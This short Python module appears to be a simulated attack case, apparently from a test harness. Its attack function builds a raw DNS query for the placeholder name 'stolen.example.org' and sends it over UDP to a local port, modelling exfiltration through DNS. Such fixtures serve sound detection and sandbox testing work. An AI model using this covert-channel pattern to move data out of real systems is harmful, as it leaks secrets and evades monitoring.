"""Hides a secret in a DNS query."""

import socket
import struct


def attack(facts: dict[str, str]) -> None:
    name = b"".join(bytes([len(part)]) + part for part in (b"stolen", b"example", b"org")) + b"\0"
    question = struct.pack(">6H", 7, 0x100, 1, 0, 0, 0) + name + struct.pack(">2H", 1, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        out.connect(("127.0.0.1", int(facts["udp"])))
        out.send(question)
